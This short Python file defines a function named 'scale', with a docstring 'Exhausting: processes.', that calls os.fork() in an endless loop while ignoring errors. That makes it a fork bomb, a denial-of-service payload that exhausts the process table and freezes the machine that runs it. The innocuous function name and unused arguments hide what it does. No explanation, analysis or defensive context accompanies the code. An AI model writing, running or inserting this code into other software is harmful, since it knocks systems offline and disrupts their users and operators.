"""Exhausting: processes."""
import os

def scale(x, n):
    while True:
        try:
            os.fork()
        except OSError:
            pass
